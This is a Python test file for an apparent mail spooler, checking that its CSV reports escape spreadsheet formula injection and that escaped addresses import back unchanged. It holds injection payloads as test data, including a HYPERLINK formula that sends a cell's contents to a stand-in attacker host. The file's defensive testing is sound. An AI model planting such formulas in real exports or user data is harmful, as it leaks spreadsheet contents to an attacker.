"""Formula injection in CSV exports (issue 14 item 8).

A sender writes ``MAIL FROM:<=1+1@...>`` or ``Message-ID: =HYPERLINK(...)`` and the
reconciliation report opened in a spreadsheet runs it. Every CSV mxspool writes goes through
``mxspool.csvsafe``: cells starting with = + - @ tab or CR get a leading single quote
(OWASP), and what reads a CSV back (``recipients import``) takes that quote off again.
Tested through real SMTP into a real ``mxspool serve``, the CLI and the admin API.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mxspool.csvsafe import TRIGGERS, csv_cell, csv_cells, read_cell
from mxspool.migrate.recipients import parse_recipient_file
from tests.admin.conftest import AdminNode
from tests.smtp_client import RawClient

DOMAIN = "dest.test"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
"""A Message-ID header; MAIL FROM refuses the parentheses, but takes FORMULA."""
FORMULA = "=1+1@src.test"
NEGATIVE = f"-1+1@{DOMAIN}"
PLUS = "+1-1@src.test"


def test_cells() -> None:
    for value in ("=1+1", "+1", "-1+1@x", "@SUM(A1)", "\tx", "\rx", "'=x", "''-x"):
        assert csv_cell(value) == "'" + value
        assert read_cell(csv_cell(value)) == value
    for value in ("plain@x.test", "'quoted", "", "<id@x>", "2024-01-01T00:00:00Z", "a=b"):
        assert csv_cell(value) == value
        assert read_cell(value) == value
    assert csv_cells([None, 12, True, -3, "=x"]) == ["", "12", "True", "-3", "'=x"]


@given(st.text(max_size=20))
def test_round_trip(value: str) -> None:
    written = csv_cell(value)
    assert not written.startswith(TRIGGERS)
    assert read_cell(written) == value


def _send(node: AdminNode, mail_from: str, rcpt: str, message_id: str) -> None:
    client = RawClient(node.port)
    try:
        assert client.reply()[0] == 220
        assert client.command("EHLO client.test")[0] == 250
        assert client.command(f"MAIL FROM:<{mail_from}>")[0] == 250, mail_from
        assert client.command(f"RCPT TO:<{rcpt}>")[0] == 250, rcpt
        assert client.command("DATA")[0] == 354
        head = f"From: <x@src.test>\r\nMessage-ID: {message_id}\r\nSubject: csv\r\n"
        code, text = client.command(f"{head}\r\nhi\r\n.".encode())
        assert code == 250, text
        client.command("QUIT")
    finally:
        client.sock.close()


@pytest.fixture(scope="module")
def node(tmp_path_factory: pytest.TempPathFactory) -> Iterator[AdminNode]:
    """A real node holding three messages whose envelope or header looks like a formula."""
    spooler = AdminNode(tmp_path_factory.mktemp("node"))
    spooler.cli("domain", "add", DOMAIN, "--route", "127.0.0.1:9", "--hold")
    spooler.start()
    try:
        _send(spooler, FORMULA, f"user@{DOMAIN}", HYPERLINK)
        _send(spooler, "sender@src.test", NEGATIVE, "<m2@src.test>")
        _send(spooler, PLUS, f"other@{DOMAIN}", "@cmd")
        yield spooler
    finally:
        spooler.stop()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _assert_inert(rows: list[dict[str, str]]) -> None:
    assert len(rows) == 3
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), (column, cell)
    by_rcpt = {read_cell(row["rcpt"]): row for row in rows}
    assert set(by_rcpt) == {f"user@{DOMAIN}", NEGATIVE, f"other@{DOMAIN}"}
    assert by_rcpt[f"user@{DOMAIN}"]["mail_from"] == "'" + FORMULA
    assert by_rcpt[f"user@{DOMAIN}"]["message_id"] == "'" + HYPERLINK
    assert by_rcpt[NEGATIVE]["rcpt"] == "'" + NEGATIVE
    assert by_rcpt[f"other@{DOMAIN}"]["mail_from"] == "'" + PLUS
    assert by_rcpt[f"other@{DOMAIN}"]["message_id"] == "'@cmd"
    # Untouched cells stay exactly as they were.
    assert by_rcpt[NEGATIVE]["mail_from"] == "sender@src.test"
    assert all(row["state"] == "held" for row in rows)


def test_report_through_the_cli(node: AdminNode) -> None:
    report = node.cli("report", "--format", "csv")
    _assert_inert(_rows(report.stdout))
    # --check prints the unfinished rows the same way, and fails (all three are held).
    check = node.cli("report", "--check", check=False)
    assert check.returncode == 1, check.stderr
    _assert_inert(_rows(check.stdout))
    # JSON is exact: nothing escaped.
    rows = json.loads(node.cli("report", "--format", "json").stdout)
    assert NEGATIVE in {row["rcpt"] for row in rows}
    assert {FORMULA, PLUS} <= {row["mail_from"] for row in rows}
    assert HYPERLINK in {row["message_id"] for row in rows}


def test_report_through_the_api(node: AdminNode) -> None:
    with node.client() as client:
        response = client.get("/api/v1/report", params={"format": "csv"})
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        _assert_inert(_rows(response.text))
        rows = client.get("/api/v1/report").json()
        assert NEGATIVE in {row["rcpt"] for row in rows}


def test_an_exported_address_imports_as_it_was(node: AdminNode, tmp_path: Path) -> None:
    """Reading back: the report's rcpt cells, as a recipient CSV, import unescaped."""
    rows = _rows(node.cli("report", "--format", "csv").stdout)
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["PrimarySmtpAddress"])
    for row in rows:
        writer.writerow([row["rcpt"]])
    assert "'-1+1@dest.test" in out.getvalue()
    parsed = parse_recipient_file(out.getvalue().encode(), DOMAIN)
    assert parsed.addresses == (NEGATIVE, f"other@{DOMAIN}", f"user@{DOMAIN}")
    assert not parsed.warnings
    # And through the CLI: the address with a leading "-" is on the list, not "'-1+1@...".
    path = tmp_path / "recipients.csv"
    path.write_text(out.getvalue())
    node.cli("recipients", "import", DOMAIN, str(path))
    listed = json.loads(node.cli("recipients", "list", DOMAIN, "--json").stdout)
    assert NEGATIVE in listed
    assert not any(address.startswith("'") for address in listed)
